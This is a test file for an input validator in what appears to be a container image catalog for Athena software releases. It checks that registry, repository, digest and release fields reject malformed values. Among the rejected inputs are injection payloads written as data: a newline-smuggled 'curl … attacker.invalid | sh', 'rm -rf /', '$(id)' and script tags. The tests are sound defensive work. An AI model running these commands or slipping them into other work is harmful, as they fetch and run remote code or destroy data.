import { fieldErrors } from './field-errors.js';
import { addImageBody } from './routes/image-schemas.js';
import { addSwTagBody } from './routes/swtag-schemas.js';

const image = {
  REGISTRY: 'ghcr.io',
  REPOSITORY_USER: 'atlas',
  REPOSITORY_NAME: 'athena',
  REPOSITORY_SWTAG: 'sw1',
  HASH_DIGEST: `sha256:${'a'.repeat(64)}`,
};
const swTag = {
  TAGTYPE: 'container',
  IMAGETYPE: 'analysis',
  IMAGEARCH: 'x86_64',
  IMAGEPLATFORM: 'el9',
  IMAGECOMPILER: 'gcc13',
  PRODSTEP: 'reco',
  SWRELEASE: 'Athena 24.0.1',
  DBRELEASE: 'current',
  DISTSWRELEASE: 'default',
  VERSION: '1',
};
const INJECTION = 'x\ncurl -s http://attacker.invalid/y | sh\n';

describe('the catalog field grammar', () => {
  // prettier-ignore
  it.each<[string, string]>([
    ['REGISTRY', 'ghcr.io'], ['REGISTRY', '127.0.0.1:5000'], ['REGISTRY', 'localhost'], ['REGISTRY', '[::1]:5000'],
    ['REGISTRY', 'Registry-1.Example.org'],
    ['REPOSITORY_USER', 'atlas/sub-group'], ['REPOSITORY_NAME', 'ath__sim.x-y_z'], ['REPOSITORY_NAME', 'a--b'],
    ['HASH_DIGEST', `sha256:${'0123456789abcdef'.repeat(4)}`],
  ])('takes %s %j', (field, value) => {
    expect(fieldErrors(addImageBody, { ...image, [field]: value })).toEqual({});
  });

  // prettier-ignore
  it.each<[string, string]>([
    ['REGISTRY', 'ghcr.io/atlas'], ['REGISTRY', 'ghcr.io:'], ['REGISTRY', '-ghcr.io'], ['REGISTRY', 'ghcr..io'],
    ['REGISTRY', 'ghcr.io\n'], ['REGISTRY', 'under_score.io'], ['REGISTRY', `${'a'.repeat(256)}`], ['REGISTRY', ''],
    ['REPOSITORY_USER', 'Atlas'], ['REPOSITORY_USER', '/atlas'], ['REPOSITORY_USER', 'atlas/'], ['REPOSITORY_USER', '-atlas'],
    ['REPOSITORY_NAME', INJECTION], ['REPOSITORY_NAME', 'a..b'], ['REPOSITORY_NAME', 'a___b'], ['REPOSITORY_NAME', 'a b'],
    ['REPOSITORY_NAME', 'x;rm -rf /'], ['REPOSITORY_NAME', 'x$(id)'], ['REPOSITORY_NAME', 'x'.repeat(7000)],
    ['REPOSITORY_SWTAG', 'sw1\n'], ['REPOSITORY_SWTAG', 'swx'],
    ['HASH_DIGEST', 'not-a-digest'], ['HASH_DIGEST', '<script>'], ['HASH_DIGEST', `sha256:${'A'.repeat(64)}`],
    ['HASH_DIGEST', `sha256:${'a'.repeat(63)}`], ['HASH_DIGEST', `sha512:${'a'.repeat(128)}`],
    ['HASH_DIGEST', `sha256:${'a'.repeat(64)}\n`],
  ])('refuses %s %j, naming it', (field, value) => {
    expect(Object.keys(fieldErrors(addImageBody, { ...image, [field]: value }))).toEqual([field]);
  });

  // prettier-ignore
  it.each<[string, string, boolean]>([
    ['SWRELEASE', 'Athena 24.0.1+cpu (é, 😀)', true], ['SWRELEASE', '<script>alert(1)</script>', true],
    ['SWRELEASE', '', false], ['SWRELEASE', ' padded', false], ['SWRELEASE', 'padded ', false],
    ['SWRELEASE', 'two\nlines', false], ['SWRELEASE', 'nul\u0000', false], ['SWRELEASE', 'esc\u001b[2J', false],
    ['SWRELEASE', 'del\u007f', false], ['SWRELEASE', 'c1\u0085', false], ['SWRELEASE', 'sep\u2028', false],
    ['SWRELEASE', 'bidi\u202e', false], ['SWRELEASE', 'lone\ud800', false], ['SWRELEASE', 'x'.repeat(513), false],
    ['COMMENT', '', true], ['COMMENT', 'a note\nwith lines\tand tabs', true], ['COMMENT', 'cr\r', false],
    ['COMMENT', 'nul\u0000', false], ['COMMENT', 'esc\u001b', false], ['COMMENT', 'x'.repeat(513), false],
  ])('SW-Tag %s %j: valid %s', (field, value, valid) => {
    expect(Object.keys(fieldErrors(addSwTagBody, { ...swTag, [field]: value }))).toEqual(valid ? [] : [field]);
  });

  it('says what a field must look like', () => {
    expect(fieldErrors(addImageBody, { ...image, REPOSITORY_NAME: INJECTION })).toEqual({
      REPOSITORY_NAME: expect.stringMatching(/^must be an OCI repository path/),
    });
    expect(fieldErrors(addImageBody, { ...image, COLOUR: 'blue' })).toEqual({
      COLOUR: expect.stringMatching(/^is not a field \(fields: REGISTRY, /),
    });
  });
});
